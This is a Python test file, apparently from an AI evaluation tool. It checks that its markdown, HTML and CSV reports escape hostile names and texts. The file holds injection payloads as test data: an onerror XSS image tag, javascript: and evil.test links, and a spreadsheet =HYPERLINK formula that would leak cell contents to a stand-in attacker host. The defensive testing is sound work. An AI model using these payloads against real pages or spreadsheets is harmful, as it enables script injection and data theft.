"""What a report is made of comes from servers, data and strangers: in it, it is text, and no markup
and no link."""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pandas
import pytest
from PIL import Image
from typer.testing import CliRunner

from looktwice.eval import score_table
from looktwice.eval.cli import app
from looktwice.eval.display.printable import csv_cell
from looktwice.eval.display.text_tables import escaped

EVIL = (
    "a|b `c` <img src=x onerror=alert(1)> ![p](http://evil.test/p.png) [t](javascript:x)"
    " <http://evil.test> \"'\n# H"
)
STUDY = """
tasks: {NAME: {use: eval.tasks.Folder, path: own, note: NAME, split: NAME}}
models: {m: {use: pipelines.models.Scripted, answer: NAME}}
stages: {ask: {use: prompting.turns.Ask}}
contestants: {NAME: {}, other: {stages: {ask: {system: NAME}}}, "left NAME": {needs: {env: \
NOT_SET_HERE}}}
"""


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A finished run in which every name and text is hostile; one question fails, as its image is
    not there."""
    monkeypatch.chdir(tmp_path)
    Path("own").mkdir()
    row = {"question": EVIL, "choices": [EVIL, "b"], "meta": {"kind": EVIL}, "answer": "A"}
    lines = [
        json.dumps(row | {"id": EVIL}),
        json.dumps(row | {"id": f"{EVIL}2", "images": ["q.png"]}),
    ]
    lines.append(json.dumps(row | {"id": "3", "images": ["p.png"]}))
    Image.new("RGB", (9, 9)).save("own/p.png")
    Path("own/samples.jsonl").write_text("\n".join(lines))
    name = json.dumps(EVIL.replace("\n", " "))
    Path("study.yaml").write_text(
        STUDY.replace('"left NAME"', json.dumps("left " + json.loads(name))).replace("NAME", name)
    )
    result = CliRunner().invoke(app, ["run", "study.yaml"])
    assert Path("runs/study/report.md").exists(), result.output
    done = CliRunner().invoke(app, ["report", "runs/study", "--by", "kind"])
    assert done.exit_code == 0, done.output
    CliRunner().invoke(app, ["show", "runs/study", EVIL, "--out", "runs/study/one.html"])
    return Path("runs/study")


def test_the_markdown_report_holds_no_markup_of_others(run: Path) -> None:
    """Contestants, facts, reasons and names of tasks stood in report.md as they were: an image of
    it was fetched."""
    text = (run / "report.md").read_text()
    assert "evil" in text
    assert not re.search(r"(?<!\\)!?\[[^\]\\]*(?<!\\)\]\(", text)
    assert "<img" not in text and "<http" not in text
    assert not re.search(r"https?:", text)
    for line in (line for line in text.splitlines() if line.startswith("|")):
        assert len(re.findall(r"(?<!\\)\|", line)) > 2
    assert not re.search(r"^# H", text, re.M)


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[object] = []
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            fetched = name in ("src", "href") and not re.match(r"(data:image/|#)", value or "")
            if name.startswith("on") or fetched:
                self.wrong.append((tag, name, value))
        if tag in ("iframe", "object"):
            self.wrong.append(tag)
        self.scripts += tag == "script"


def test_the_pages_hold_no_markup_of_others(run: Path) -> None:
    """Also not in attributes: nothing of theirs is run, and nothing is fetched from elsewhere."""
    for page, scripts in (("report.html", 7), ("one.html", 0)):
        tags = Tags()
        tags.feed((run / page).read_text())
        assert not tags.wrong, page
        assert tags.scripts == scripts


@pytest.mark.parametrize(
    ("text", "shown"),
    {
        "a|b": r"a\|b",
        "![x](http://y)": r"\!\[x\](http<!-- -->://y)",
        "<b>": "&lt;b&gt;",
        "a\nb": "a<br>b",
        "- x": r"\- x",
        "---": "---",
        "max_new_tokens": "max_new_tokens",
        "\x1b[31m": r"\\x1b\[31m",
    }.items(),
)
def test_a_text_in_markdown_is_shown_as_it_is(text: str, shown: str) -> None:
    assert escaped(text) == shown


FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"x")'
CELLS = """
tasks: {TASK: {use: eval.tasks.Folder, path: own, split: "@SUM(A1)"}}
models: {m: {use: pipelines.models.Scripted, answer: "(A)"}}
stages: {choose: {use: prompting.wording.MultipleChoice}, ask: {use: prompting.turns.Ask}}
contestants: {NAME: {}, "+1 more": {stages: {ask: {images: after}}}}
each: [{stages.ask.system: "\t=1+1"}]
"""


def test_a_name_is_no_formula_in_a_spreadsheet(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A contestant called =HYPERLINK(...) was computed by the spreadsheet in which somebody opened
    report.csv."""
    monkeypatch.chdir(tmp_path)
    Path("own").mkdir()
    row = {"question": "Which?", "choices": ["a", "b"], "answer": "A"}
    rows = ({"id": name, **row} for name in "pq")
    Path("own/samples.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    Path("study.yaml").write_text(
        CELLS.replace("NAME", json.dumps(FORMULA)).replace("TASK", json.dumps("-2+3"))
    )
    result = CliRunner().invoke(app, ["run", "study.yaml"])
    assert result.exit_code == 0, result.output
    for name in ("report.csv", "effects.csv"):
        path = Path("runs/study") / name
        with path.open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        evil = [cell for cell in cells if cell[:1] in tuple("=+-@\t\r\n") and not is_number(cell)]
        assert not evil and f"'{FORMULA}" in cells and "'-2+3" in cells, (name, evil)
        frame = pandas.read_csv(path)
        assert frame["value" if name == "report.csv" else "effect"].dtype.kind in "if"
    assert FORMULA in set(score_table("runs/study").to_pandas().contestant)
    given = ("-5", "+1e-3", "-", -0.5, "=1", "a=1", "\tx", "a;=1", "\r=1")
    assert [csv_cell(value) for value in given] == [
        "-5",
        "+1e-3",
        "'-",
        -0.5,
        "'=1",
        "a=1",
        "'\tx",
        "a;'=1",
        "\\r=1",
    ]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
